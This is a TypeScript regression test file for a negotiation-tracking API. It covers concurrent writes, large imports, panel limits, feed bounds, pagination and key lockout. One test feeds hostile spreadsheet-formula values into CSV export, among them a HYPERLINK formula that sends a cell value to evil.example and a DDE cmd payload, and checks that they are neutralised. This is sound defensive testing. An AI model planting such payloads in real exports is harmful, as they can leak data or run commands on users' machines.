import { spawn } from 'node:child_process';
import { parse } from 'csv-parse/sync';
import { call, startTestApp, type TestApp } from '../../support/app';
import { issue, opened, party, setup, stated } from '../../support/builders';
import { rss, startFeedServer } from '../../support/feed-server';
import { eventually } from '../../support/receiver';

/**
 * What the adversarial run against 203c218 broke (issue 23), each reproduced as it was found.
 * Every test here failed on 203c218.
 */

const post = (app: TestApp, nid: string, events: unknown[]) => call(app.url, 'POST', `/negotiations/${nid}/events`, { json: { events } });

/** An NDJSON file: a negotiation with five parties and three issues, then positions up to `lines`. */
function bigFile(lines: number): string {
  const out = [opened('big'), ...['a', 'b', 'c', 'd', 'e'].map((p) => party(p)), ...['x', 'y', 'z'].map((i) => issue(i))].map((e) => JSON.stringify(e));
  for (let k = 0; out.length < lines; k++) {
    out.push(JSON.stringify(stated('abcde'[k % 5]!, 'xyz'[k % 3]!, k % 101, new Date(Date.UTC(2025, 3, 2) + k * 1000).toISOString(), { summary: `line ${k}` })));
  }
  return `${out.join('\n')}\n`;
}

describe('two instances judge rules on the stream as it is (item 1)', () => {
  let a: TestApp;
  let b: TestApp;

  beforeAll(async () => {
    a = await startTestApp({ PARLEY_RATE_LIMIT: '0' });
    b = await startTestApp({ PARLEY_RATE_LIMIT: '0' }, a.database);
  });
  afterAll(async () => {
    await b.close();
    await a.close();
  });

  it('accepts at once, every time, a position for a party and an issue the other instance added; a true violation is still a 422', async () => {
    expect((await post(a, 'two', setup())).status).toBe(201);
    // A caches its view of the negotiation with this write.
    expect((await post(a, 'two', [stated('us', 'crimea', 40, '2025-04-10')])).status).toBe(201);
    expect((await post(b, 'two', [party('f'), issue('z')])).status).toBe(201);

    for (let i = 0; i < 3; i++) {
      const answer = await post(a, 'two', [stated('f', 'z', 10 + i, '2025-04-11')]);
      expect({ status: answer.status, body: answer.body }).toMatchObject({ status: 201 });
    }
    const unknown = await post(a, 'two', [stated('nobody', 'z', 10, '2025-04-11')]);
    expect(unknown.status).toBe(422);
    expect(unknown.body.issues[0]).toMatchObject({ code: 'NEGOTIATION.UNKNOWN_PARTY', path: ['events', 0, 'data', 'party'] });
    const offScale = await post(a, 'two', [stated('f', 'z', 101, '2025-04-11')]);
    expect(offScale.status).toBe(422);
  });
});

describe('a large import (items 2, 5 and 6)', () => {
  let app: TestApp;
  const file = bigFile(130_000);
  const importBig = () => call(app.url, 'POST', '/negotiations/big/events:import', { body: file, contentType: 'application/x-ndjson' });

  beforeAll(async () => {
    app = await startTestApp({ PARLEY_RATE_LIMIT: '0' });
    expect((await post(app, 'other', setup())).status).toBe(201);
  });
  afterAll(() => app.close());

  /** Starts `work`; once the import has begun, a one-event write to another negotiation, then a read of it. */
  async function beside(work: () => Promise<{ status: number; body: any; headers: Headers }>) {
    const order: string[] = [];
    const running = work().then((answer) => {
      order.push('import answered');
      return answer;
    });
    // The import is being parsed and checked (over a second of work) when this arrives.
    await new Promise((resolve) => setTimeout(resolve, 300));
    const write = await post(app, 'other', [stated('us', 'crimea', Math.floor(Math.random() * 100), '2025-04-20')]);
    order.push('other write answered');
    expect(write.status).toBe(201);
    const read = await fetch(`${app.url}/negotiations/other/stances`, { headers: { 'parley-min-position': write.headers.get('parley-position')! } });
    order.push('other read answered');
    expect(read.status).toBe(200);
    return { answer: await running, order, otherPosition: Number(write.headers.get('parley-position')) };
  }

  it('answers 201 for 130,000 lines and 200 for the retry, and lets another negotiation write and read meanwhile', async () => {
    const first = await beside(importBig);
    expect(first.answer.status).toBe(201);
    expect(first.answer.body).toMatchObject({ streamVersion: 130_000, appended: 130_000, skipped: 0 });
    expect(Number(first.answer.headers.get('parley-position'))).toBeGreaterThanOrEqual(130_000);
    expect(first.order).toEqual(['other write answered', 'other read answered', 'import answered']);

    // Re-importing the stored file: every line matched, nothing appended, linear not quadratic
    // (it took 45.6 s and held every other append up).
    const again = await beside(importBig);
    expect(again.answer.status).toBe(200);
    expect(again.answer.body).toMatchObject({ streamVersion: 130_000, appended: 0, skipped: 130_000 });
    expect(again.order).toEqual(['other write answered', 'other read answered', 'import answered']);
    // About 30 s alone; CI runs two test files at once on two cores.
  }, 180_000);

  it('answers a read of another negotiation whose write came after an import, before the projector has worked through the import', async () => {
    const imported = await call(app.url, 'POST', '/negotiations/later/events:import', { body: bigFile(60_000), contentType: 'application/x-ndjson' });
    expect(imported.status).toBe(201);
    const write = await post(app, 'other', [stated('ukraine', 'crimea', 5, '2025-04-21')]);
    const position = Number(write.headers.get('parley-position'));
    expect(position).toBeGreaterThan(Number(imported.headers.get('parley-position')));
    const read = await fetch(`${app.url}/negotiations/other/stances`, { headers: { 'parley-min-position': String(position) } });
    expect(read.status).toBe(200);
    const health = (await call(app.url, 'GET', '/health')).body.info.projections;
    // Answered while the import still waited to be projected: the read's stream went ahead.
    expect(health.checkpoint).toBeLessThan(position);
    expect((await read.json()).stances).toEqual(expect.arrayContaining([expect.objectContaining({ party: 'ukraine', issue: 'crimea', value: 5 })]));
    // The import's own negotiation is answered in full once the projector is through (a read
    // of it may answer 503 projection_lagging, with Retry-After, until then).
    const later = await eventually(async () => {
      const answer = await call(app.url, 'GET', '/negotiations/later/stances');
      return answer.status === 200 && answer;
    }, 'the import projected', 90_000);
    expect(later.body.stances).toHaveLength(15);
  }, 120_000);
});

describe('reads that grow with their parameters (item 3) and CSV cells (item 4)', () => {
  let app: TestApp;
  const parties = Array.from({ length: 10 }, (_, i) => `p${i}`);
  const issues = Array.from({ length: 10 }, (_, i) => `i${i}`);
  // 10 parties × 10 issues × 1,000 days: the largest panel this instance allows.
  const CAP = 100_000;

  beforeAll(async () => {
    app = await startTestApp({ PARLEY_RATE_LIMIT: '0', PARLEY_PANEL_MAX_CELLS: String(CAP) });
    const events = [opened(), ...parties.map((p) => party(p)), ...issues.map((i) => issue(i))];
    for (const p of parties) for (const i of issues) events.push(stated(p, i, 50, '2022-01-01'));
    expect((await post(app, 'wide', events)).status).toBe(201);
  });
  afterAll(() => app.close());

  it('refuses a panel over PARLEY_PANEL_MAX_CELLS with a 400 that names the step and the limit', async () => {
    const answer = await call(app.url, 'GET', '/negotiations/wide/panel?from=2022-01-01&to=2024-09-27&step=P1D');
    expect(answer.status).toBe(400);
    expect(answer.body.error).toBe('invalid_request');
    expect(answer.body.issues[0].path).toEqual(['step']);
    expect(answer.body.issues[0].message).toMatch(/1001 points × 10 parties × 10 issues.*PARLEY_PANEL_MAX_CELLS \(100000\)/);
  });

  it('answers /health while the largest allowed panel streams to a fast client', async () => {
    // The client reads in a process of its own, as fast as it can: a reader in this process
    // would need this event loop to read, and so would give the server the turns it lacked.
    const reader = spawn(process.execPath, [
      '-e',
      `fetch(process.argv[1]).then(async (r) => { let bytes = 0; for await (const chunk of r.body) { if (bytes === 0) process.stdout.write('first\\n'); bytes += chunk.length; } process.stdout.write('ended ' + r.status + ' ' + bytes + '\\n'); })`,
      `${app.url}/negotiations/wide/panel?from=2022-01-01&to=2024-09-26&step=P1D&format=csv`,
    ]);
    const order: string[] = [];
    let health: Promise<number> | undefined;
    const ended = await new Promise<string>((resolve, reject) => {
      reader.stdout.on('data', (chunk: Buffer) => {
        for (const line of chunk.toString().trim().split('\n')) {
          if (line === 'first') {
            health = fetch(`${app.url}/health`).then((r) => {
              order.push('health answered');
              return r.status;
            });
          } else if (line.startsWith('ended')) {
            order.push('panel ended');
            resolve(line);
          }
        }
      });
      reader.once('exit', (code) => (code === 0 ? undefined : reject(new Error(`reader exited ${code}`))));
    });
    expect(await health).toBe(200);
    expect(order).toEqual(['health answered', 'panel ended']);
    const [, status, bytes] = ended.split(' ');
    expect(status).toBe('200');
    // 100,000 rows of about 150 bytes: the stream was long enough to matter.
    expect(Number(bytes)).toBeGreaterThan(5_000_000);
  });

  it('writes no CSV cell that a spreadsheet would run as a formula, and leaves numbers as they are', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tlead', '\rlead'];
    const events: unknown[] = [opened(), party('us'), { ...issue('signed'), data: { issue: 'signed', title: 'signed', scale: { min: -100, max: 100 } } }];
    hostile.forEach((publisher, day) => events.push({ ...stated('us', 'signed', -40 - day, `2025-04-0${day + 1}`), source: { publisher, title: publisher } }));
    expect((await post(app, 'cells', events)).status).toBe(201);
    const answer = await fetch(`${app.url}/negotiations/cells/panel?from=2025-04-01&to=2025-04-06&step=P1D&format=csv`);
    const rows = parse(await answer.text(), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.sourcePublisher)).toEqual(hostile.map((h) => `'${h}`));
    expect(rows.map((r) => r.value)).toEqual(['-40', '-41', '-42', '-43', '-44', '-45']);
    for (const row of rows) for (const cell of Object.values(row)) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && Number.isNaN(Number(cell)))).toBe(false);
  });
});

describe('news that is kept, bounded and paged (items 7, 8 and 9)', () => {
  let app: TestApp;
  let feeds: Awaited<ReturnType<typeof startFeedServer>>;
  const source = async (id: string) => (await call(app.url, 'GET', `/sources/${id}`)).body;

  beforeAll(async () => {
    feeds = await startFeedServer();
    app = await startTestApp({
      PARLEY_RATE_LIMIT: '0',
      PARLEY_FEED_ALLOW: '127.0.0.1',
      PARLEY_NEWS_TICK_MS: '50',
      PARLEY_NEWS_MIN_INTERVAL_MS: '1000',
      PARLEY_NEWS_MAX_ITEMS_PER_POLL: '40',
      PARLEY_NEWS_MAX_ITEMS_PER_HOUR: '100',
    });
    expect((await post(app, 'news', setup())).status).toBe(201);
  });
  afterAll(async () => {
    await app.close();
    await feeds.close();
  });

  it('keeps an item with overlong text or a date it cannot hold, and says so on the source', async () => {
    feeds.routes.set('/odd', (_req, res) =>
      res.writeHead(200, { 'content-type': 'application/rss+xml' }).end(
        rss([
          { guid: 'long', title: 'x'.repeat(1208), description: 'y'.repeat(12_000) },
          { guid: 'old', title: 'Year 500', date: '0500-01-01T00:00:00Z' },
          { guid: 'far', title: 'Year 12000', date: '+012000-01-01T00:00:00Z' },
          { guid: 'fine', title: 'Crimea talks', date: 'Sat, 26 Apr 2025 09:00:00 GMT' },
        ]),
      ),
    );
    expect((await call(app.url, 'POST', '/sources', { json: { id: 'odd', url: `${feeds.url}/odd`, negotiations: ['news'] } })).status).toBe(201);
    const polled = await eventually(async () => {
      const s = await source('odd');
      return s.lastFetchedAt !== null && s;
    }, 'the first poll');
    expect(polled.items).toBe(4);
    expect(polled.lastError).toBeNull();
    expect(polled.lastNotice).toMatch(/title trimmed from 1208 to 1000 characters/);
    expect(polled.lastNotice).toMatch(/summary trimmed from 12000 to 10000 characters/);
    expect(polled.lastNotice).toMatch(/its date 0500-01-01T00:00:00Z lies outside 1000–9999/);
    expect(polled.lastNotice).toMatch(/its date \+012000-01-01T00:00:00Z lies outside 1000–9999/);
  });

  it('bounds what a churning feed adds per poll and per hour, and reports the excess on the source', async () => {
    let poll = 0;
    // 300 items whose content changes on every poll: 300 new versions each time.
    feeds.routes.set('/churn', (_req, res) => {
      poll += 1;
      res.writeHead(200, { 'content-type': 'application/rss+xml' }).end(rss(Array.from({ length: 300 }, (_, i) => ({ guid: `c${i}`, title: `Item ${i}, edition ${poll}` }))));
    });
    expect((await call(app.url, 'POST', '/sources', { json: { id: 'churn', url: `${feeds.url}/churn`, pollInterval: 'PT1S', negotiations: ['news'] } })).status).toBe(201);
    // The first poll that went through (on a loaded machine one may time out and be retried).
    const first = await eventually(async () => {
      const s = await source('churn');
      return s.lastFetchedAt !== null && s.lastError === null && s;
    }, 'the first poll');
    expect(first.items).toBe(40);
    expect(first.lastNotice).toMatch(/^260 new item version\(s\) held back for a later poll: over PARLEY_NEWS_MAX_ITEMS_PER_POLL \(40\)/);
    // Polls go on (a second a poll at least); the hour's bound stops the growth at 100 versions.
    const capped = await eventually(async () => {
      const s = await source('churn');
      return /PARLEY_NEWS_MAX_ITEMS_PER_HOUR \(100\)/.test(s.lastNotice ?? '') && poll >= 4 && s;
    }, 'the hour bound', 20_000);
    const versions = await call(app.url, 'GET', '/events?limit=1000');
    const fromChurn = versions.body.events.filter((e: { type: string; data: { source: string } }) => e.type === 'NewsItemReceived' && e.data.source === 'churn');
    expect(fromChurn.length).toBe(100);
    expect(capped.lastError).toBeNull();
  });

  it('pages the inbox with limit and next', async () => {
    const items = Array.from({ length: 250 }, (_, i) => ({ guid: `p${i}`, title: `Crimea report ${i}`, publishedAt: new Date(Date.UTC(2025, 3, 1) + i * 60_000).toISOString() }));
    expect((await call(app.url, 'POST', '/negotiations/news/news', { json: { items } })).status).toBe(201);
    const small = await call(app.url, 'GET', '/negotiations/news/inbox?status=new&limit=5');
    expect(small.status).toBe(200);
    expect(small.body.items).toHaveLength(5);
    expect(typeof small.body.next).toBe('string');
    const seen: string[] = [];
    let after: string | null = null;
    do {
      const page: any = await call(app.url, 'GET', `/negotiations/news/inbox?status=new&limit=100${after ? `&after=${encodeURIComponent(after)}` : ''}`);
      expect(page.body.items.length).toBeLessThanOrEqual(100);
      seen.push(...page.body.items.map((i: { id: string }) => i.id));
      after = page.body.next;
    } while (after !== null);
    const reports = (await call(app.url, 'GET', '/negotiations/news/inbox?status=new&limit=1000')).body.items;
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen).toEqual(reports.map((i: { id: string }) => i.id));
    expect(seen.length).toBeGreaterThanOrEqual(250);
    expect((await call(app.url, 'GET', '/negotiations/news/inbox?limit=0')).body.issues[0].path).toEqual(['limit']);
  });
});

describe('keys and links (items 10 and 11)', () => {
  const ADMIN = 'admin-key-for-adversarial-0001';
  let app: TestApp;

  beforeAll(async () => {
    app = await startTestApp({ PARLEY_API_KEYS: `admin:${ADMIN}`, PARLEY_AUTH_FAILURE_LIMIT: '20' });
  });
  afterAll(() => app.close());

  it('counts only wrong keys: requests with no key never lock a valid key out', async () => {
    for (let i = 0; i < 21; i++) expect((await call(app.url, 'GET', '/negotiations')).status).toBe(401);
    expect((await call(app.url, 'GET', '/negotiations', { key: ADMIN })).status).toBe(200);
    // Wrong keys are still throttled, and the admin's key still passes.
    const statuses: number[] = [];
    for (let i = 0; i < 22; i++) statuses.push((await call(app.url, 'GET', '/negotiations', { key: `wrong-key-${i}-000000` })).status);
    expect(statuses.slice(0, 20).every((s) => s === 401)).toBe(true);
    expect(statuses.slice(20)).toEqual([429, 429]);
    expect((await call(app.url, 'GET', '/negotiations', { key: ADMIN })).status).toBe(200);
  });

  it('keeps the query when / leads to the dashboard, and only the query', async () => {
    const answer = await fetch(`${app.url}/?n=talks&at=2025-04-24`, { redirect: 'manual' });
    expect(answer.status).toBe(302);
    expect(answer.headers.get('location')).toBe('/dashboard/?n=talks&at=2025-04-24');
    const bare = await fetch(`${app.url}/`, { redirect: 'manual' });
    expect(bare.headers.get('location')).toBe('/dashboard/');
  });
});
